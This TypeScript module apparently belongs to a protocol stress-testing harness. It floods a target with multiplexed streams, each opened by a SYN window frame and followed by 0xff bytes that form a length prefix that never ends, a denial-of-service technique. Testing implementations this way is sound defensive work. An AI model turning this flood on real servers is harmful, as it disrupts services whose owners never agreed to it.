/** Streams on which the length of the first word does not end. */
import type { Behaviour } from '../attack/target.js'
import { data, FLAG, flooding, FRAME, header, streams } from '../attack/wire.js'

const ENDLESS = Buffer.alloc(15 * 1024, 0xff)

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => streams(n, 4, (stream) => Buffer.concat([header(FRAME.window, FLAG.syn, stream, 0), data(stream, ENDLESS)])))
